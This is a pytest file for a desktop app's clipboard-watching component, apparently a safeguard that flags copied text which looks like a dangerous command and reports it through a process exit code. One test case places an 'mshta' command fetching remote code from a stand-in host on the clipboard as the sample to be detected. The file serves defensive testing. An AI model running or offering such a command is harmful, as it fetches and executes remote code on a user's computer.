"""What was copied is read by a process of its own, from the real clipboard of a desktop."""

from __future__ import annotations

import subprocess

import pytest
from PySide6.QtGui import QGuiApplication
from pytestqt.qtbot import QtBot

from app.companion.dangers import IS_COMMAND
from app.system import program


@pytest.mark.parametrize(
    ("copied", "code"), [("mshta https://0x0.invalid/a", IS_COMMAND), ("まごの写真です", 0), ("", 0)]
)
def test_a_command_is_told_by_the_exit_code(
    copied: str, code: int, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    from app.companion import copied as room

    QGuiApplication.clipboard().setText(copied)
    monkeypatch.setattr(room, "QGuiApplication", lambda _arguments: QGuiApplication.instance())
    assert room.main() == code
    QGuiApplication.clipboard().clear()


def test_the_process_comes_to_its_end() -> None:
    assert subprocess.run(program.command("--copied"), cwd=program.FOLDER, timeout=30).returncode == 0
